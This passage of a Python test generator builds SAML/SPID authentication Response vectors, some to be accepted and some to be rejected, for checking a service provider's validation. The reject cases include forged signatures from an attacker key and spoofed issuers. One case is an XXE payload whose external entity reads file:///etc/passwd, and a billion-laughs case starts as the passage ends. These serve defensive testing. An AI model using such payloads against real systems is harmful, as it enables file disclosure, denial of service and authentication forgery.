        return s[:a] + part + s[b:]
    return f


def rename_assertion_prefix(s):
    """saml: -> s2: everywhere (declaring s2): same Infoset names, different c14n bytes."""
    s = re.sub(r"<(/?)saml:", r"<\1s2:", s)
    return s.replace('xmlns:saml="%s"' % NS_A, 'xmlns:saml="%s" xmlns:s2="%s"' % (NS_A, NS_A), 1)


def to_encoding(enc, decl):
    def f(s):
        return s.replace('encoding="UTF-8"', 'encoding="%s"' % decl, 1).encode(enc)
    return f


def crlf_in_value(attr_name):
    def f(s):
        lo, hi = _scoped(attr_value(attr_name))(s)
        part = s[lo:hi].replace("\n", "\r\n")
        return s[:lo] + part + s[hi:]
    return f


# --------------------------------------------------------------------------------------------
# The case table
# --------------------------------------------------------------------------------------------
@dataclass
class Case:
    name: str
    expect: str
    note: str
    build: Build = field(default_factory=Build)
    pre: list = field(default_factory=list)     # mutations before signing (as spid-sp-test does)
    mid: list = field(default_factory=list)     # between the Assertion and the Response signature
    post: list = field(default_factory=list)    # after signing (attacks); a step may return bytes
    options: str = ""
    # signatures xmlsec1 must find valid (True) or broken (False); None = decide from kind
    verify: dict = None
    steps: list = None                          # explicit xmlsec1 signing steps [(xpath, key name)]


CASES = []


def case(name, expect, note, **kw):
    b = kw.pop("b", None)
    if b is None:
        b = Build(**{k: kw.pop(k) for k in list(kw) if k in Build.__dataclass_fields__})
    CASES.append(Case(name, expect, note, build=b, **kw))


A = "saml:Assertion"                  # scope shortcut
NOSIG = None
idp2_sig = Sig(key="idp2")
att_sig = Sig(key="attacker")


def define_cases():
    # ---------------- accepted ----------------
    case("valid-both-signed", "accept", "main vector: Response and Assertion signed by idp (xmlsec1)")
    case("valid-assertion-only-signed", "accept", "Response unsigned, Assertion signed", rsig=NOSIG)
    case("valid-comments-between-elements", "accept",
         "comments between elements (after signing, whitespace unchanged): in the Response, the Assertion, the AttributeStatement "
         "and the Assertion's SignedInfo, none touching a text value; exc-c14n drops them, both signatures still valid",
         post=[insert_before("saml:Issuer", "<!-- generated by X -->", n=0),
               insert_after("samlp:Status", "<!-- the assertion follows -->"),
               insert_before("saml:Issuer", "<!-- assertion issuer -->", n=1),
               insert_before("ds:SignatureMethod", "<!-- in SignedInfo -->", n=1),
               insert_after("saml:Subject", "<!---->"),
               insert_after("saml:Attribute", "<!-- between attributes -->", n=2)],
         verify={"response": True, "assertion": True})
    case("valid-empty-x509certificate", "accept",
         "KeyInfo/X509Data/X509Certificate present but EMPTY in both signatures (as spid-sp-test sends)",
         mid=[blank_x509], post=[blank_x509], verify={"response": True, "assertion": True})
    case("valid-no-keyinfo", "accept", "no KeyInfo at all in either signature",
         rsig=Sig(keyinfo=False), asig=Sig(keyinfo=False))
    case("valid-default-namespaces", "accept",
         "default namespaces instead of prefixes (xmlns= on Response, Issuer, Assertion, Signature); xs/xsi on each AttributeValue",
         mode="default", xs_decl="value")
    case("valid-saml2-prefixes", "accept",
         "prefixes saml2p:/saml2:/dsig:, all declared on the root (with xs/xsi)", mode="saml2", xs_decl="root")
    case("valid-inclusive-prefixlist", "accept",
         "exc-c14n transforms carry InclusiveNamespaces PrefixList=\"xs\" (Shibboleth style); xs/xsi declared on the root",
         rsig=Sig(prefixlist="xs"), asig=Sig(prefixlist="xs"), xs_decl="root")
    case("valid-xs-on-attributevalue", "accept",
         "xmlns:xs/xsi declared on every AttributeValue (spid-sp-test style), none on the Assertion", xs_decl="value")
    case("valid-attributes-no-nameformat", "accept", "Attribute elements without NameFormat", nameformat=False)
    case("valid-issue-instant-millis", "accept",
         "all instants with milliseconds (IssueInstants, NotBefore, NotOnOrAfter, AuthnInstant)",
         resp_ii="2026-01-15T10:00:02.345Z", asrt_ii="2026-01-15T10:00:02.345Z",
         not_before="2026-01-15T10:00:02.345Z", not_on_or_after="2026-01-15T10:05:02.345Z",
         authn_instant="2026-01-15T10:00:01.999Z")
    case("valid-nameid-whitespace", "accept",
         "NameID text wrapped in newlines and spaces (as spid-sp-test's template): trim before use",
         nameid="\n                  _4f9c1e7a5b3d2c8e6f0a1b9d7c5e3a2f\n            ")
    case("valid-crlf-nonascii", "accept",
         "CRLF line breaks (raw bytes, normalised to LF by the parser) in address; &#13; kept in idCard; non-ASCII è à ò in values",
         attrs=with_attrs(MAIN_ATTRS, set_={
             "name": "Niccolò", "familyName": "Carità",
             "address": "Via Giosuè Carducci 12\nScala B\n00144 Roma RM",
             "idCard": "cartaIdentita CA00000AA comuneRoma&#13;\n2020-01-01 2030-12-31"}),
         post=[crlf_in_value("address")], verify={"response": True, "assertion": True})
    case("valid-c14n-escapes", "accept",
         "c14n edge cases in signed text: &amp; &lt; &gt; quotes, CDATA, tab/LF char refs in an attribute (FriendlyName)",
         attrs=with_attrs(MAIN_ATTRS, set_={
             "address": "Via dell&apos;Amore &amp; Psiche 1 &lt;int. 2&gt; \"scala\" 00144 Roma",
             "digitalAddress": "<![CDATA[mario.rossi@pec.example.it <PEC> & co]]>"}),
         pre=[set_attr("saml:Attribute", "FriendlyName", "Domicilio&#9;fisico&#10;&quot;&lt;x&gt;&quot;",
                       n=[a for a, _, _ in MAIN_ATTRS].index("address"))])
    case("valid-legal-person", "accept",
         "legal-person identity: companyName, ivaCode, companyFiscalNumber, registeredOffice (+ fiscalNumber of the natural person)",
         attrs=with_attrs(MAIN_ATTRS, add=[
             ("companyName", "xs:string", "Agenzia per l'Italia Digitale"),
             ("ivaCode", "xs:string", "VATIT-97735020584"),
             ("companyFiscalNumber", "xs:string", "TINIT-97735020584"),
             ("registeredOffice", "xs:string", "Via Listz 21 00144 Roma RM")]))
    case("valid-eidas-user", "accept",
         "eIDAS user via the Italian node (the IdP is registered as the eIDAS node): no fiscalNumber, spidCode DE/IT/0123456789abcdef is the identity key",
         attrs=EIDAS_ATTRS, options="federation=eidas")
    case("valid-fiscalnumber-bad-checksum", "accept",
         "fiscalNumber TINIT-CLMCST42R12D969Z has a wrong check character: accepted, flagged",
         attrs=with_attrs(MAIN_ATTRS, set_={"fiscalNumber": "TINIT-CLMCST42R12D969Z"}))
    case("valid-no-session-index", "accept", "AuthnStatement without SessionIndex (spid-sp-test at L2/L3)",
         session_index=False)
    case("valid-rsa-sha512", "accept", "rsa-sha512 + sha512 digests (both signatures)",
         rsig=Sig(method=RSA_SHA512, digest=SHA512), asig=Sig(method=RSA_SHA512, digest=SHA512))
    case("valid-rsa-sha384", "accept", "rsa-sha384 + sha384 digests (xmldsig-more#sha384)",
         rsig=Sig(method=RSA_SHA384, digest=SHA384), asig=Sig(method=RSA_SHA384, digest=SHA384))
    case("valid-clock-skew-future-50s", "accept",
         "Response/Assertion IssueInstant and NotBefore 50 s after now (within the 60 s skew)",
         resp_ii="2026-01-15T10:01:00Z", asrt_ii="2026-01-15T10:01:00Z", not_before="2026-01-15T10:01:00Z")
    case("valid-issue-instant-30s-before-request", "accept",
         "IssueInstants 30 s before the request's IssueInstant (within the 60 s skew)",
         resp_ii="2026-01-15T09:59:30Z", asrt_ii="2026-01-15T09:59:30Z", not_before="2026-01-15T09:59:30Z")
    case("valid-idp2", "accept", "issued and signed by idp2, the request went to idp2",
         issuer=IDP2, rsig=idp2_sig, asig=idp2_sig, options="idp=" + IDP2)
    case("acr-l1-for-l1-exact", "accept", "SpidL1 returned, SpidL1 exact requested", level=L1,
         options="level=L1;comparison=exact")
    case("acr-l1-for-l2-maximum", "accept", "SpidL1 returned, SpidL2 maximum requested", level=L1,
         options="level=L2;comparison=maximum")
    case("acr-l3-for-l2-exact", "accept", "SpidL3 returned, SpidL2 exact requested (higher is always fine)",
         level=L3, options="level=L2;comparison=exact")
    case("acr-l3-for-l2-better", "accept", "SpidL3 returned, SpidL2 better requested", level=L3,
         options="level=L2;comparison=better")
    # spid-sp-test accept cases (request: SpidL2 minimum)
    case("spt-01-correct", "accept",
         "spid-sp-test shape: IssueInstant/NotBefore = request IssueInstant, empty X509Certificate, NameID wrapped in whitespace, no NameFormat, xs/xsi on Assertion and values, no SessionIndex",
         resp_ii=REQ_II, asrt_ii=REQ_II, not_before=REQ_II, nameformat=False, xs_decl="value", session_index=False,
         nameid="\n                    _3fc08efa-a851-4855-9f03-9b881df8ca06\n            ",
         pre=[set_attr("saml:Assertion", "xmlns:xs", NS_XS), set_attr("saml:Assertion", "xmlns:xsi", NS_XSI)],
         mid=[blank_x509], post=[blank_x509], verify={"response": True, "assertion": True})
    case("spt-31-response-issuer-no-format", "accept", "spid-sp-test 31: Response Issuer without Format",
         pre=[set_attr("saml:Issuer", "Format", None)])
    case("spt-95-acr-spidl2", "accept", "spid-sp-test 95: SpidL2 for an SpidL2 minimum request", level=L2)
    case("spt-96-acr-spidl3", "accept", "spid-sp-test 96: SpidL3 returned for an SpidL2 minimum request", level=L3)
    case("spt-109-attributes-without-nameformat", "accept", "spid-sp-test 109: no NameFormat", nameformat=False)
    case("spt-110-response-issue-instant-millis", "accept",
         "spid-sp-test 110: Response IssueInstant with milliseconds", resp_ii="2026-01-15T10:00:02.123Z")

    # second signer (produced only with --with-signxml)
    case("signxml-both-signed", "accept", "main vector signed by Python signxml (Assertion, then Response)",
         rsig=Sig(signer="signxml"), asig=Sig(signer="signxml"))
    case("signxml-assertion-only-signed", "accept", "signxml, Response unsigned", rsig=NOSIG,
         asig=Sig(signer="signxml"))
    case("signxml-legal-person", "accept", "signxml, legal-person attributes",
         rsig=Sig(signer="signxml"), asig=Sig(signer="signxml"),
         attrs=with_attrs(MAIN_ATTRS, add=[("companyName", "xs:string", "Agenzia per l'Italia Digitale"),
                                           ("ivaCode", "xs:string", "VATIT-97735020584"),
                                           ("companyFiscalNumber", "xs:string", "TINIT-97735020584")]))
    case("signxml-crlf-nonascii", "accept", "signxml, non-ASCII values and a &#13; char reference",
         rsig=Sig(signer="signxml"), asig=Sig(signer="signxml"),
         attrs=with_attrs(MAIN_ATTRS, set_={"name": "Niccolò", "familyName": "Carità",
                                            "idCard": "cartaIdentita CA00000AA comuneRoma&#13;\n2020-01-01 2030-12-31"}))
    case("signxml-saml2-prefixes", "accept", "signxml, saml2p:/saml2: prefixes declared on the root",
         mode="saml2", xs_decl="root", rsig=Sig(signer="signxml"), asig=Sig(signer="signxml"))
    case("signxml-default-namespaces", "accept", "signxml, default namespaces",
         mode="default", xs_decl="value", rsig=Sig(signer="signxml"), asig=Sig(signer="signxml"))

    # ---------------- IdP refusals ----------------
    for nr, spt in (("nr19", "104"), ("nr20", "105"), ("nr21", "106"), ("nr22", "107"), ("nr23", "108"),
                    ("nr25", "111"), ("nr30", None)):
        nm = ("spt-%s-errorcode-%s" % (spt, nr)) if spt else "refusal-errorcode-%s" % nr
        case(nm, "refuse:" + nr, "unsigned refusal Responder/AuthnFailed 'ErrorCode %s', no Assertion%s"
             % (nr, " (spid-sp-test %s)" % spt if spt else ""),
             status="refusal", error_code=nr, assertion=False, rsig=NOSIG, asig=NOSIG)
    case("refusal-signed-nr22", "refuse:nr22", "signed refusal (Response signature by idp), ErrorCode nr22",
         status="refusal", error_code="nr22", assertion=False, asig=NOSIG)
    case("refusal-no-errorcode", "refuse:status", "Responder/AuthnFailed without StatusMessage",
         status="refusal", error_code=None, assertion=False, rsig=NOSIG, asig=NOSIG)
    case("spt-26-status-code-invalid", "refuse:status",
         "spid-sp-test 26: StatusCode Value '...:status:statuscodenonvalido' (not Success), Assertion present",
         pre=[set_attr("samlp:StatusCode", "Value", "urn:oasis:names:tc:SAML:2.0:status:statuscodenonvalido")])
    case("refusal-wrong-in-response-to", "reject:response-in-response-to",
         "refusal whose InResponseTo is not the pending request", status="refusal", error_code="nr22",
         assertion=False, rsig=NOSIG, asig=NOSIG, pre=[set_attr("samlp:Response", "InResponseTo", "_unknownrequest")])
    case("refusal-missing-in-response-to", "reject:response-in-response-to", "refusal without InResponseTo",
         status="refusal", error_code="nr25", assertion=False, rsig=NOSIG, asig=NOSIG,
         pre=[set_attr("samlp:Response", "InResponseTo", None)])

    # ---------------- spid-sp-test rejection cases ----------------
    R, S = "samlp:Response", "samlp:Status"
    case("spt-02-response-unsigned", "reject:assertion-unsigned",
         "spid-sp-test 02: neither Response nor Assertion signed (all signatures removed)", rsig=NOSIG, asig=NOSIG)
    case("spt-03-assertion-unsigned", "reject:assertion-unsigned",
         "spid-sp-test 03: Response signed (valid), Assertion not signed", asig=NOSIG)
    case("spt-04-wrong-key", "reject:signature-invalid",
         "spid-sp-test 04: both signed by the attacker key; KeyInfo claims idp's certificate",
         rsig=att_sig, asig=att_sig, mid=[keyinfo_cert("idp")], post=[keyinfo_cert("idp")], verify={"response": False, "assertion": False})
    case("spt-05-wrong-key-own-cert", "reject:signature-invalid",
         "spid-sp-test 05: both signed by the attacker key, attacker's certificate in KeyInfo",
         rsig=att_sig, asig=att_sig, verify={"response": False, "assertion": False})
    case("spt-08-response-id-empty", "reject:response-id", "spid-sp-test 08: Response ID=\"\" (Response unsigned)",
         rsig=NOSIG, pre=[set_attr(R, "ID", "")])
    case("spt-09-response-id-missing", "reject:response-id", "spid-sp-test 09: no Response ID (Response unsigned)",
         rsig=NOSIG, pre=[set_attr(R, "ID", None)])
    case("spt-10-response-version", "reject:response-version", "spid-sp-test 10: Version=\"1.0\"",
         pre=[set_attr(R, "Version", "1.0")])
    case("spt-11-response-issue-instant-empty", "reject:response-issue-instant", "spid-sp-test 11",
         pre=[set_attr(R, "IssueInstant", "")])
    case("spt-12-response-issue-instant-missing", "reject:response-issue-instant", "spid-sp-test 12",
         pre=[set_attr(R, "IssueInstant", None)])
    case("spt-13-response-issue-instant-malformed", "reject:response-issue-instant",
         "spid-sp-test 13: IssueInstant=\"2018-09-04\"", pre=[set_attr(R, "IssueInstant", "2018-09-04")])
    case("spt-14-response-issue-instant-before-request", "reject:response-expired",
         "spid-sp-test 14: 2018-01-01T00:00:00Z", resp_ii="2018-01-01T00:00:00Z")
    case("spt-15-response-issue-instant-future", "reject:response-issue-instant",
         "spid-sp-test 15: 2099-01-01T00:00:00Z", resp_ii="2099-01-01T00:00:00Z")
    case("spt-16-response-in-response-to-empty", "reject:response-in-response-to", "spid-sp-test 16",
         pre=[set_attr(R, "InResponseTo", "")])
    case("spt-17-response-in-response-to-missing", "reject:response-in-response-to", "spid-sp-test 17",
         pre=[set_attr(R, "InResponseTo", None)])
    case("spt-18-response-in-response-to-wrong", "reject:response-in-response-to",
         "spid-sp-test 18: InResponseTo=\"inresponsetodiversodaidrequest\"",
         pre=[set_attr(R, "InResponseTo", "inresponsetodiversodaidrequest")])
    case("spt-19-destination-empty", "reject:response-destination", "spid-sp-test 19",
         pre=[set_attr(R, "Destination", "")])
    case("spt-20-destination-missing", "reject:response-destination", "spid-sp-test 20",
         pre=[set_attr(R, "Destination", None)])
    case("spt-21-destination-wrong", "reject:response-destination",
         "spid-sp-test 21: Destination=\"diversodaassertionconsumerserviceurl\"",
         pre=[set_attr(R, "Destination", "diversodaassertionconsumerserviceurl")])
    case("spt-22-status-empty", "reject:response-status", "spid-sp-test 22: <samlp:Status></samlp:Status>",
         pre=[replace_elem(S, "<samlp:Status></samlp:Status>")])
    case("spt-23-status-missing", "reject:response-status", "spid-sp-test 23", pre=[replace_elem(S, None)])
    case("spt-24-status-code-empty", "reject:response-status", "spid-sp-test 24: StatusCode Value=\"\"",
         pre=[set_attr("samlp:StatusCode", "Value", "")])
    case("spt-27-response-issuer-empty", "reject:response-issuer", "spid-sp-test 27: Response Issuer text empty",
         pre=[set_content("saml:Issuer", "")])
    case("spt-28-response-issuer-missing", "reject:response-issuer", "spid-sp-test 28",
         pre=[replace_elem("saml:Issuer", None)])
    case("spt-29-response-issuer-wrong", "reject:issuer-mismatch",
         "spid-sp-test 29: Response Issuer https://idp.evil.example (Assertion Issuer correct)",
         pre=[set_content("saml:Issuer", "https://idp.evil.example")])
    case("spt-30-response-issuer-format-wrong", "reject:response-issuer-format",
         "spid-sp-test 30: Response Issuer Format ...nameid-format:transient",
         pre=[set_attr("saml:Issuer", "Format", TRANSIENT)])
    case("spt-32-assertion-missing", "reject:assertion-count", "spid-sp-test 32: Success without Assertion",
         assertion=False)
    case("spt-33-assertion-id-empty", "reject:signature-reference",
         "spid-sp-test 33: Assertion ID=\"\"; the Assertion signature (made before) references the old ID",
         mid=[set_attr(A, "ID", "")], verify={"response": True})
    case("spt-34-assertion-id-missing", "reject:signature-reference",
         "spid-sp-test 34: no Assertion ID; the Assertion signature (made before) references the old ID",
         mid=[set_attr(A, "ID", None)], verify={"response": True})
    case("spt-35-assertion-version", "reject:assertion-version", "spid-sp-test 35: Assertion Version=\"1.0\"",
         pre=[set_attr(A, "Version", "1.0")])
    case("spt-36-assertion-issue-instant-empty", "reject:assertion-issue-instant", "spid-sp-test 36",
         pre=[set_attr(A, "IssueInstant", "")])
    case("spt-37-assertion-issue-instant-missing", "reject:assertion-issue-instant", "spid-sp-test 37",
         pre=[set_attr(A, "IssueInstant", None)])
    case("spt-38-assertion-issue-instant-malformed", "reject:assertion-issue-instant",
         "spid-sp-test 38: 2018-09-04", pre=[set_attr(A, "IssueInstant", "2018-09-04")])
    case("spt-39-assertion-issue-instant-before-request", "reject:assertion-expired",
         "spid-sp-test 39: 2000-01-01T00:00:00Z", asrt_ii="2000-01-01T00:00:00Z")
    case("spt-40-assertion-issue-instant-future", "reject:assertion-issue-instant",
         "spid-sp-test 40: 2099-01-01T00:00:00Z", asrt_ii="2099-01-01T00:00:00Z")
    case("spt-41-subject-empty", "reject:subject", "spid-sp-test 41: <saml:Subject> with only whitespace",
         pre=[set_content("saml:Subject", "\n    ")])
    case("spt-42-subject-missing", "reject:subject", "spid-sp-test 42", pre=[replace_elem("saml:Subject", None)])
    case("spt-43-nameid-empty", "reject:name-id", "spid-sp-test 43: NameID text blank (and NameQualifier=\"\")",
         pre=[set_content("saml:NameID", "\n\n            "), set_attr("saml:NameID", "NameQualifier", "")])
    case("spt-44-nameid-missing", "reject:name-id", "spid-sp-test 44", pre=[replace_elem("saml:NameID", None)])
    case("spt-45-nameid-format-empty", "reject:name-id-format", "spid-sp-test 45",
         pre=[set_attr("saml:NameID", "Format", "")])
    case("spt-46-nameid-format-missing", "reject:name-id-format", "spid-sp-test 46",
         pre=[set_attr("saml:NameID", "Format", None)])
    case("spt-47-nameid-format-wrong", "reject:name-id-format", "spid-sp-test 47: Format ...:1.1:nameid-format:unspecified",
         pre=[set_attr("saml:NameID", "Format", "urn:oasis:names:tc:SAML:1.1:nameid-format:unspecified")])
    case("spt-48-nameid-qualifier-empty", "reject:name-id-qualifier", "spid-sp-test 48",
         pre=[set_attr("saml:NameID", "NameQualifier", "")])
    case("spt-49-nameid-qualifier-missing", "reject:name-id-qualifier", "spid-sp-test 49",
         pre=[set_attr("saml:NameID", "NameQualifier", None)])
    case("spt-51-subject-confirmation-empty", "reject:subject-confirmation",
         "spid-sp-test 51: SubjectConfirmation (Method bearer) with no child element",
         pre=[set_content("saml:SubjectConfirmation", "\n      ")])
    case("spt-52-subject-confirmation-missing", "reject:subject-confirmation", "spid-sp-test 52",
         pre=[replace_elem("saml:SubjectConfirmation", None)])
    case("spt-53-subject-confirmation-method-empty", "reject:subject-confirmation", "spid-sp-test 53",
         pre=[set_attr("saml:SubjectConfirmation", "Method", "")])
    case("spt-54-subject-confirmation-method-missing", "reject:subject-confirmation", "spid-sp-test 54",
         pre=[set_attr("saml:SubjectConfirmation", "Method", None)])
    case("spt-55-subject-confirmation-method-wrong", "reject:subject-confirmation",
         "spid-sp-test 55: Method ...:cm:holder-of-key",
         pre=[set_attr("saml:SubjectConfirmation", "Method", "urn:oasis:names:tc:SAML:2.0:cm:holder-of-key")])
    case("spt-56-subject-confirmation-data-missing", "reject:subject-confirmation-data",
         "spid-sp-test 56 (upstream template equals 51's): here SubjectConfirmation keeps a NameID child but has no SubjectConfirmationData",
         pre=[replace_elem("saml:SubjectConfirmationData",
                           '<saml:NameID Format="%s" NameQualifier="%s">_nid_in_confirmation</saml:NameID>' % (TRANSIENT, IDP))])
    SCD = "saml:SubjectConfirmationData"
    case("spt-57-recipient-empty", "reject:recipient", "spid-sp-test 57", pre=[set_attr(SCD, "Recipient", "")])
    case("spt-58-recipient-missing", "reject:recipient", "spid-sp-test 58", pre=[set_attr(SCD, "Recipient", None)])
    case("spt-59-recipient-wrong", "reject:recipient", "spid-sp-test 59: Recipient https://sp.test.example/other/acs",
         pre=[set_attr(SCD, "Recipient", "https://sp.test.example/other/acs")])
    case("spt-60-subject-in-response-to-empty", "reject:subject-in-response-to", "spid-sp-test 60",
         pre=[set_attr(SCD, "InResponseTo", "")])
    case("spt-61-subject-in-response-to-missing", "reject:subject-in-response-to", "spid-sp-test 61",
         pre=[set_attr(SCD, "InResponseTo", None)])
    case("spt-62-subject-in-response-to-wrong", "reject:subject-in-response-to",
         "spid-sp-test 62: InResponseTo=\"inresponsetodiversodaidrequest\"",
         pre=[set_attr(SCD, "InResponseTo", "inresponsetodiversodaidrequest")])
    case("spt-63-subject-not-on-or-after-empty", "reject:subject-not-on-or-after", "spid-sp-test 63",
         pre=[set_attr(SCD, "NotOnOrAfter", "")])
    case("spt-64-subject-not-on-or-after-missing", "reject:subject-not-on-or-after", "spid-sp-test 64",
         pre=[set_attr(SCD, "NotOnOrAfter", None)])
    case("spt-65-subject-not-on-or-after-malformed", "reject:subject-not-on-or-after",
         "spid-sp-test 65: 2018-09-04", pre=[set_attr(SCD, "NotOnOrAfter", "2018-09-04")])
    case("spt-66-subject-not-on-or-after-past", "reject:subject-not-on-or-after",
         "spid-sp-test 66: 2020-01-01T00:00:00Z", pre=[set_attr(SCD, "NotOnOrAfter", "2020-01-01T00:00:00Z")])
    case("spt-68-assertion-issuer-missing", "reject:assertion-issuer", "spid-sp-test 68",
         pre=[replace_elem("saml:Issuer", None, n=1)])
    case("spt-69-assertion-issuer-wrong", "reject:issuer-mismatch",
         "spid-sp-test 69: Assertion Issuer https://idp.evil.example",
         pre=[set_content("saml:Issuer", "https://idp.evil.example", n=1)])
    case("spt-70-assertion-issuer-format-empty", "reject:assertion-issuer-format", "spid-sp-test 70",
         pre=[set_attr("saml:Issuer", "Format", "", n=1)])
    case("spt-71-assertion-issuer-format-missing", "reject:assertion-issuer-format",
         "spid-sp-test 71 (the Response Issuer may omit Format, the Assertion Issuer may not)",
         pre=[set_attr("saml:Issuer", "Format", None, n=1)])
    case("spt-72-assertion-issuer-format-wrong", "reject:assertion-issuer-format",
         "spid-sp-test 72: Format ...nameid-format:transient", pre=[set_attr("saml:Issuer", "Format", TRANSIENT, n=1)])
    C = "saml:Conditions"
    case("spt-73-conditions-empty", "reject:conditions",
         "spid-sp-test 73: Conditions with its attributes but no child element",
         pre=[set_content(C, "\n    ")])
    case("spt-74-conditions-missing", "reject:conditions", "spid-sp-test 74", pre=[replace_elem(C, None)])
    case("spt-75-conditions-not-before-empty", "reject:conditions-not-before", "spid-sp-test 75",
         pre=[set_attr(C, "NotBefore", "")])
    case("spt-76-conditions-not-before-missing", "reject:conditions-not-before", "spid-sp-test 76",
         pre=[set_attr(C, "NotBefore", None)])
    case("spt-77-conditions-not-before-malformed", "reject:conditions-not-before",
         "spid-sp-test 77: 2018/09/10", pre=[set_attr(C, "NotBefore", "2018/09/10")])
    case("spt-78-conditions-not-before-future", "reject:conditions-not-before",
         "spid-sp-test 78: 2099-01-01T00:00:00Z", not_before="2099-01-01T00:00:00Z")
    case("spt-79-conditions-not-on-or-after-empty", "reject:conditions-not-on-or-after", "spid-sp-test 79",
         pre=[set_attr(C, "NotOnOrAfter", "")])
    case("spt-80-conditions-not-on-or-after-missing", "reject:conditions-not-on-or-after", "spid-sp-test 80",
         pre=[set_attr(C, "NotOnOrAfter", None)])
    case("spt-81-conditions-not-on-or-after-malformed", "reject:conditions-not-on-or-after",
         "spid-sp-test 81: 2018-09-04", pre=[set_attr(C, "NotOnOrAfter", "2018-09-04")])
    case("spt-82-conditions-not-on-or-after-past", "reject:conditions-not-on-or-after",
         "spid-sp-test 82: 2020-01-01T00:00:00Z", pre=[set_attr(C, "NotOnOrAfter", "2020-01-01T00:00:00Z")])
    case("spt-83-audience-restriction-empty", "reject:audience", "spid-sp-test 83: AudienceRestriction without Audience (blank)",
         pre=[set_content("saml:AudienceRestriction", "\n\n      ")])
    case("spt-85-audience-empty", "reject:audience", "spid-sp-test 85", pre=[set_content("saml:Audience", "")])
    case("spt-86-audience-missing", "reject:audience", "spid-sp-test 86: AudienceRestriction without Audience element",
         pre=[replace_elem("saml:Audience", None)])
    case("spt-87-audience-wrong", "reject:audience", "spid-sp-test 87: Audience https://sp.evil.example/spid",
         pre=[set_content("saml:Audience", "https://sp.evil.example/spid")])
    case("spt-88-authn-statement-empty", "reject:authn-statement",
         "spid-sp-test 88: AuthnStatement with its attributes but no child element",
         pre=[set_content("saml:AuthnStatement", "\n    ")])
    case("spt-89-authn-statement-missing", "reject:authn-statement", "spid-sp-test 89",
         pre=[replace_elem("saml:AuthnStatement", None)])
    case("spt-90-authn-context-empty", "reject:authn-context", "spid-sp-test 90",
         pre=[set_content("saml:AuthnContext", "\n\n      ")])
    case("spt-92-authn-context-class-ref-empty", "reject:authn-context", "spid-sp-test 92",
         pre=[set_content("saml:AuthnContextClassRef", "")])
    case("spt-93-authn-context-class-ref-missing", "reject:authn-context", "spid-sp-test 93",
         pre=[replace_elem("saml:AuthnContextClassRef", None)])
    case("spt-94-acr-spidl1", "reject:authn-level", "spid-sp-test 94: SpidL1 returned for an SpidL2 minimum request",
         level=L1)
    case("spt-97-acr-legacy-urn", "reject:authn-level",
         "spid-sp-test 97: urn:oasis:names:tc:SAML:2.0:ac:classes:SpidL2 (legacy, not a SPID URI)",
         level="urn:oasis:names:tc:SAML:2.0:ac:classes:SpidL2")
    case("spt-98-attribute-statement-empty", "reject:attribute-statement", "spid-sp-test 98",
         pre=[set_content("saml:AttributeStatement", "")])
    case("spt-99-attribute-without-value", "reject:attribute-value",
         "spid-sp-test 99: Attribute spidCode without AttributeValue (upstream puts it outside any AttributeStatement; here it is inside)",
         pre=[set_content("saml:AttributeStatement",
                          '\n      <saml:Attribute Name="spidCode" NameFormat="%s"></saml:Attribute>\n    ' % BASIC)])
    case("spt-100-assertion-wrong-key", "reject:signature-invalid",
         "spid-sp-test 100: Assertion signed by the attacker key (Response correctly signed by idp)",
         asig=att_sig, verify={"response": True, "assertion": False})

    # ---------------- more field / window / level cases ----------------
    case("response-issue-instant-90s-future", "reject:response-issue-instant",
         "Response IssueInstant 90 s after now (skew is 60 s)", resp_ii="2026-01-15T10:01:40Z")
    case("response-issue-instant-90s-before-request", "reject:response-expired",
         "Response IssueInstant 90 s before the request (skew is 60 s)", resp_ii="2026-01-15T09:58:30Z")
    case("conditions-not-before-90s-future", "reject:conditions-not-before", "NotBefore 90 s after now",
         not_before="2026-01-15T10:01:40Z")
    case("subject-not-on-or-after-expired", "reject:subject-not-on-or-after",
         "SubjectConfirmationData NotOnOrAfter 2 min before now",
         pre=[set_attr(SCD, "NotOnOrAfter", "2026-01-15T09:58:10Z")])
    case("conditions-not-on-or-after-expired-later-clock", "reject:conditions-not-on-or-after",
         "test clock 10:07:00Z: Conditions NotOnOrAfter 10:05:02Z expired beyond the skew (SCD NotOnOrAfter moved to 10:30:00Z before signing)",
         pre=[set_attr(SCD, "NotOnOrAfter", "2026-01-15T10:30:00Z")], options="now=2026-01-15T10:07:00Z")
    case("acr-l2-for-l2-better", "reject:authn-level", "SpidL2 returned, SpidL2 better requested", level=L2,
         options="level=L2;comparison=better")
    case("acr-l2-for-l3-exact", "reject:authn-level", "SpidL2 returned, SpidL3 exact requested", level=L2,
         options="level=L3;comparison=exact")
    case("acr-unknown-uri", "reject:authn-level", "AuthnContextClassRef https://www.spid.gov.it/SpidL4",
         level="https://www.spid.gov.it/SpidL4")
    case("attribute-value-empty", "reject:attribute-value", "fiscalNumber with an empty <saml:AttributeValue/>",
         pre=[set_content("saml:AttributeValue", "", n=[a for a, _, _ in MAIN_ATTRS].index("fiscalNumber"))])
    case("identity-key-missing", "reject:identity-key-missing",
         "no fiscalNumber and a non-eIDAS spidCode (TEST0123456789)",
         attrs=with_attrs(MAIN_ATTRS, drop=("fiscalNumber",)))
    case("assertion-issuer-empty", "reject:assertion-issuer", "Assertion Issuer text empty",
         pre=[set_content("saml:Issuer", "", n=1)])

    # ---------------- input / XML level ----------------
    big = "x" * (260 * 1024)
    case("input-too-large", "reject:input-too-large", "267 KiB document (a 260 KiB attribute value), signed",
         pre=[set_content("saml:AttributeValue", big, n=0)])
    case("input-utf16", "reject:input-encoding", "the main vector encoded as UTF-16 (BOM, encoding=\"UTF-16\")",
         post=[to_encoding("utf-16", "UTF-16")])
    case("input-iso-8859-1", "reject:input-encoding",
         "encoding=\"ISO-8859-1\" declared, bytes are Latin-1 (name=Niccolò)",
         attrs=with_attrs(MAIN_ATTRS, set_={"name": "Niccolò"}), post=[to_encoding("latin-1", "ISO-8859-1")])
    case("input-invalid-utf8", "reject:input-encoding", "a 0xFF byte inside the email value",
         post=[lambda s: s.replace("mario.rossi@example.it", "mario.rossi\udcff@example.it").encode("utf-8", "surrogateescape")])
    case("xml-doctype-xxe", "reject:xml-dtd", "DOCTYPE with <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> used in NameID",
         post=[sub('<?xml version="1.0" encoding="UTF-8"?>\n',
                   '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE samlp:Response [\n'
                   '  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n'),
               lambda s: re.sub(r"(<saml:NameID [^>]*>)[^<]*", r"\1&xxe;", s)])
    case("xml-doctype-billion-laughs", "reject:xml-dtd", "DOCTYPE with nested entities (billion laughs) used in an attribute value",
         post=[sub('<?xml version="1.0" encoding="UTF-8"?>\n',
